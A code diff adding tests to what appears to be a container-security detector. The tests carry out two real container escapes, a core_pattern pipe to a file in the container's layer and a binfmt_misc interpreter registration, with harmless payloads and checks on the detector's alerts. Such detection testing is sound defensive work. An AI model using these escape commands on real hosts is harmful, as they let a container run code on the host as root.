@@ -454,6 +454,108 @@ static void test_benign_persistence_twin(void)
 	sh(NULL, 0, "docker rm -f bw-brd-persist-benign >/dev/null 2>&1");
 }
 
+/* The alert of the host running @file, checked for the container whose layer held it. */
+static void check_host_exec_alert(const char *field, const char *file, const char *id, const char *name, bool umh)
+{
+	json_t *a = tracer_find_alert("Host Executed File From Container Layer", alert_field_is,
+				      &(struct field_is){ field, file }, TIMEOUT_MS);
+
+	CHECK(a, "no alert for the host executing %s (%d alerts of the rule)", file,
+	      tracer_count_alerts("Host Executed File From Container Layer", NULL, NULL));
+	if (!a)
+		return;
+	CHECK_STR(alert_field(a, "container.id"), "host");
+	CHECK(from_layer_container(a, id), "layer container %s, want %.12s", alert_field(a, "bulwark.exec.layer_container.id"), id);
+	CHECK_STR(alert_field(a, "bulwark.exec.layer_container.name"), name);
+	CHECK(json_is_boolean(json_object_get(json_object_get(a, "output_fields"), "bulwark.exec.umh")) &&
+	      json_is_true(json_object_get(json_object_get(a, "output_fields"), "bulwark.exec.umh")) == umh,
+	      "bulwark.exec.umh, want %d", umh);
+	CHECK_STR(jstr(a, "priority"), "Critical");
+}
+
+static char saved_core_pattern[PATH_MAX]; /* the host's core_pattern, kept in a file while a test changes it */
+
+static void restore_core_pattern(void)
+{
+	if (saved_core_pattern[0] && access(saved_core_pattern, F_OK) == 0)
+		sh(NULL, 0, "cat '%s' > /proc/sys/kernel/core_pattern && rm -f '%s'", saved_core_pattern, saved_core_pattern);
+}
+
+/*
+ * Class 11: the host running a container's file through a kernel callback. A container with
+ * CAP_SYS_ADMIN and /proc/sys writable points core_pattern at a pipe into its own layer and
+ * crashes a process: the kernel's usermode helper runs the file on the host as root.
+ * core_pattern is restored at once (and by cleanup).
+ */
+static void test_core_pattern_pipe_breakout(void)
+{
+	char id[80], upper[PATH_MAX], out[256], file[PATH_MAX + 8];
+	long deadline;
+
+	snprintf(saved_core_pattern, sizeof(saved_core_pattern), "%s/core_pattern.saved", workdir);
+	CHECK(sh(NULL, 0, "cat /proc/sys/kernel/core_pattern > '%s'", saved_core_pattern) == 0, "save core_pattern");
+	CHECK(start_container(id, sizeof(id), "bw-brd-corepat", BREAKOUT_FLAGS " --security-opt systempaths=unconfined") == 0,
+	      "docker run");
+	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-brd-corepat");
+	sh(NULL, 0,
+	   "docker exec bw-brd-corepat sh -c '"
+	   "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
+	   "printf \"#!/bin/sh\\necho dumped > %%s/out\\n\" \"$host_path\" > /cp; chmod a+x /cp;"
+	   "echo \"|$host_path/cp %%p\" > /proc/sys/kernel/core_pattern;"
+	   "sh -c \"kill -SEGV \\$\\$\"' 2>/dev/null");
+	deadline = now_ms() + TIMEOUT_MS;
+	do
+		sh(out, sizeof(out), "cat '%s/out' 2>/dev/null", upper);
+	while (!strstr(out, "dumped") && now_ms() < deadline && (usleep(100000), 1));
+	restore_core_pattern();
+	CHECK(strstr(out, "dumped") != NULL, "the kernel did not run the core_pattern pipe (got \"%s\")", out);
+	check_alert("Kernel core_pattern Modified", id, "Critical");
+	snprintf(file, sizeof(file), "%s/cp", upper);
+	check_host_exec_alert("bulwark.exec.filename", file, id, "bw-brd-corepat", true);
+	sh(NULL, 0, "docker rm -f bw-brd-corepat >/dev/null 2>&1");
+}
+
+/*
+ * binfmt_misc: a container registers a handler (in the host's instance: same user namespace)
+ * whose interpreter is a file in its layer; a host process then runs a file of that format and
+ * the kernel runs the container's interpreter for it, in the host process (no usermode helper).
+ */
+static void test_binfmt_misc_handler_breakout(void)
+{
+	char id[80], upper[PATH_MAX], interp[PATH_MAX + 16], name[32], prog[PATH_MAX];
+
+	snprintf(name, sizeof(name), "bwbrd%d", getpid());
+	CHECK(start_container(id, sizeof(id), "bw-brd-binfmt", BREAKOUT_FLAGS) == 0, "docker run");
+	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-brd-binfmt");
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-brd-binfmt sh -c '"
+		 "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
+		 "cp /bin/busybox /interp && mkdir -p /tmp/bfm && mount -t binfmt_misc none /tmp/bfm &&"
+		 "echo \":%s:M::BWBRDX::$host_path/interp:\" > /tmp/bfm/register'", name) == 0,
+	      "register the handler");
+	snprintf(prog, sizeof(prog), "%s/report.bwx", workdir);
+	CHECK(sh(NULL, 0, "printf 'BWBRDX\\n' > '%s' && chmod +x '%s'", prog, prog) == 0, "the host's file");
+	sh(NULL, 0, "'%s' >/dev/null 2>&1", prog); /* busybox as \"interp\": no such applet, but it ran */
+	/* unregister from the host (the container's mount is gone with it) */
+	sh(NULL, 0, "d=$(mktemp -d) && mount -t binfmt_misc none $d && echo -1 > $d/%s; umount $d; rmdir $d", name);
+	snprintf(interp, sizeof(interp), "%s/interp", upper);
+	check_host_exec_alert("proc.exepath", interp, id, "bw-brd-binfmt", false);
+	sh(NULL, 0, "docker rm -f bw-brd-binfmt >/dev/null 2>&1");
+}
+
+/* The twin: a container reads core_pattern and a process in it crashes under the host's own pattern. */
+static void test_benign_core_pattern_reader(void)
+{
+	char id[80];
+
+	CHECK(start_container(id, sizeof(id), "bw-brd-corepat-benign", "") == 0, "docker run");
+	CHECK(sh(NULL, 0, "docker exec bw-brd-corepat-benign cat /proc/sys/kernel/core_pattern >/dev/null") == 0, "read");
+	sh(NULL, 0, "docker exec bw-brd-corepat-benign sh -c 'cd /tmp && sh -c \"kill -SEGV \\$\\$\"' 2>/dev/null");
+	tracer_drain(3000);
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
+	sh(NULL, 0, "docker rm -f bw-brd-corepat-benign >/dev/null 2>&1");
+}
+
 /* Benign twins: a container doing ordinary work raises nothing. */
 static void test_benign_workload_is_silent(void)
 {
@@ -602,7 +704,8 @@ static void cleanup(void)
 	sh(NULL, 0, "docker rm -f bw-atk-breakout bw-atk-drop bw-atk-read bw-benign bw-atk-mem bw-atk-raw bw-atk-sweep"
 		    " bw-benign-net bw-atk-inject bw-benign-dbg bw-atk-revshell bw-atk-script bw-atk-shm bw-benign-twins"
 		    " bw-benign-image bw-brd-anyname bw-brd-links-benign"
-		    " bw-brd-persist bw-brd-persist-benign >/dev/null 2>&1");
+		    " bw-brd-persist bw-brd-persist-benign bw-brd-corepat bw-brd-binfmt bw-brd-corepat-benign >/dev/null 2>&1");
+	restore_core_pattern();
 	sh(NULL, 0, "rm -rf '%s'", workdir);
 }
 
@@ -636,6 +739,9 @@ int main(int argc, char **argv)
 	RUN(test_benign_links_and_token_client);
 	RUN(test_persistence_written);
 	RUN(test_benign_persistence_twin);
+	RUN(test_core_pattern_pipe_breakout);
+	RUN(test_binfmt_misc_handler_breakout);
+	RUN(test_benign_core_pattern_reader);
 	RUN(test_proc_mem_injection);
 	RUN(test_packet_socket);
 	RUN(test_connect_sweep);
